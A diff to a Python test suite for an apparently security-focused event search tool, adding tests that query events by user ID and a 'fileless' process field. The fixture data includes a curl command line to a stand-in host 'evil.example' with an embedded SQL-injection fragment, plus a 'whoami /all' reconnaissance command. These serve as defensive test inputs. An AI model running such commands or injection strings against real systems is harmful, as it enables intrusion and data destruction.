@@ -35,6 +35,7 @@ def filled(engine_paths, tmp_path_factory):
     events.append(start(10, 99, "curl http://evil.example/'; DROP TABLE events; --", "/usr/bin/curl"))
     file = Event(time=BEGIN)
     file.file_create.path = "/tmp/Trạm_Gác"
+    events[0].process_start.euid, events[1].process_start.euid = 0, 1000
     record = Event(time=BEGIN + 1)
     record.event_log.channel, record.event_log.event_id = "Security", 4688
     record.event_log.data["CommandLine"] = "whoami /all"
@@ -49,6 +50,17 @@ def filled(engine_paths, tmp_path_factory):
 def found(filled, text="", **more):
     paths, host = filled
     return list(query.search(paths, text, host=host, **more))
+
+
+def test_roots_id_is_a_number_like_others(filled):
+    (root,), (other,) = found(filled, "user.id:0"), found(filled, "user.id:1000")
+    assert (root["sequence"], root["user.id"], other["sequence"], other["user.id"]) == (1, 0, 2, 1000)
+    assert len(found(filled, "-user.id:0")) == 11
+
+
+def test_a_field_that_is_0_is_looked_for_where_there_is_such_a_field(filled):
+    assert {event["kind"] for event in found(filled, "tramgac.process.fileless:false")} == {"process_start"}
+    assert len(found(filled, "tramgac.process.fileless:false")) == 10
 
 
 def test_an_event_reads_as_the_contract_says(filled):
